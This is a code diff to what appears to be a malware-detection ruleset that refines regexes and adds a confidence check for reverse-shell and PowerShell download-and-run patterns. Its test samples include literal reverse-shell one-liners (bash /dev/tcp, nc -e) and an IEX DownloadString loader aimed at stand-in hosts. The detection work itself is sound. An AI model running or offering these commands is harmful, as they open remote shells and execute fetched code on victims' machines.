@@ -35,7 +35,7 @@ export const shellTakeoverRules: readonly PayloadRule[] = [
     ],
     before: 100,
     after: 240,
-    find: rx`(?:(?:>|<)\s{0,3}&?\s{0,3}\/dev\/(?:tcp|udp)\/[\w.$\{\}-]{1,60}\/[\w$\{\}]{1,10}|(?:mkfifo|mknod)\s[^\n]{1,60}(?:;|&&)[^\n]{0,80}(?:\bnc\b|ncat|netcat|telnet|openssl s_client)|\b(?:nc|ncat|netcat|nc\.(?:traditional|openbsd|exe))\s[^\n|;]{0,60}(?:-\w{0,4}[ec]\w{0,2}|--(?:exec|sh-exec))\s{1,3}["']?(?:\/bin\/|\/usr\/bin\/|cmd|bash|sh\b|powershell)|socat\s[^\n]{0,80}(?:exec|system):|socket\.socket[^\n]{0,160}(?:dup2|subprocess|pty\.spawn)|dup2\([^\n]{0,120}(?:\/bin\/(?:ba)?sh|subprocess)|fsockopen\([^\n]{0,80}(?:exec|proc_open|shell_exec|passthru|\/bin\/sh)|tcpsocket\.(?:new|open)\([^\n]{0,80}(?:exec|\/bin\/sh|popen)|sockets\.tcpclient\([^\n]{0,200}(?:iex|invoke-expression|getstream)|use socket;[^\n]{0,160}exec|io::socket[^\n]{0,160}(?:exec|\/bin\/sh)|net\.socket\(\)[^\n]{0,160}(?:spawn|\/bin\/sh))`,
+    find: rx`(?:(?:>|<)\s{0,3}&?\s{0,3}\/dev\/(?:tcp|udp)\/[\w.$\{\}-]{1,60}\/[\w$\{\}]{1,10}|(?:mkfifo|mknod)\s[^\n]{1,60}(?:;|&&)[^\n]{0,80}(?:\bnc\b|ncat|netcat|telnet|openssl s_client)|\b(?:nc|ncat|netcat|nc\.(?:traditional|openbsd|exe))\s[^\n|;]{0,60}(?:-\w{0,4}[ec]\w{0,2}|--(?:exec|sh-exec))\s{1,3}["']?(?:\/bin\/|\/usr\/bin\/|cmd|bash|sh\b|powershell)|socat\s[^\n]{0,80}(?:exec|system):["']?(?:\/\w{1,8}\/){0,3}(?:(?:ba|z|da|k)?sh|cmd|powershell|login)\b|socket\.socket[^\n]{0,160}(?:dup2|subprocess|pty\.spawn)|dup2\([^\n]{0,120}(?:\/bin\/(?:ba)?sh|subprocess)|fsockopen\([^\n]{0,80}(?:exec|proc_open|shell_exec|passthru|\/bin\/sh)|tcpsocket\.(?:new|open)\([^\n]{0,80}(?:exec|\/bin\/sh|popen)|sockets\.tcpclient\([^\n]{0,200}(?:iex|invoke-expression|getstream)|use socket;[^\n]{0,160}exec|io::socket[^\n]{0,160}(?:exec|\/bin\/sh)|net\.socket\(\)[^\n]{0,160}(?:spawn|\/bin\/sh))`,
     flags: [
       'bash -i >& /dev/tcp/10.0.0.9/4444 0>&1',
       'nc 10.0.0.9 9001 -e /bin/sh',
@@ -146,6 +146,13 @@ export const shellTakeoverRules: readonly PayloadRule[] = [
     before: 80,
     after: 200,
     find: rx`(?:(?:powershell|pwsh)(?:\.exe)?\s[^\n]{0,80}-e(?:nc?|ncodedcommand)?\s{1,4}[a-z0-9+/=]{16,200}|(?:iex|invoke-expression)\b[\s("'&]{0,6}[^\n]{0,60}(?:downloadstring|invoke-webrequest|iwr|webclient|frombase64string)|downloadstring\([^\n)]{1,100}\)\s{0,3}\|\s{0,3}(?:iex|invoke-expression)|certutil(?:\.exe)?\s[^\n]{0,40}-urlcache\s[^\n]{0,60}http|mshta(?:\.exe)?\s{1,3}["']?(?:https?:|javascript:|vbscript:)|regsvr32\s[^\n]{0,40}\/i:http|bitsadmin\s[^\n]{0,40}\/transfer\s[^\n]{0,40}http|rundll32(?:\.exe)?\s{1,3}javascript:|wmic\s{1,3}process\s{1,3}call\s{1,3}create)`,
+    verify(match) {
+      // Installers are documented as a download from a named host over https.
+      const line = match.input.slice(match.index, match.index + match[0].length + 80).split('\n', 1)[0] ?? ''
+      return /^(?:iex|invoke-expression|downloadstring)/i.test(match[0]) && /https:\/\/[a-z][\w-]*\.[a-z]/i.test(line)
+        ? 0.5
+        : 1
+    },
     flags: [
       'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A',
       "IEX (New-Object Net.WebClient).DownloadString('http://h/a.ps1')",
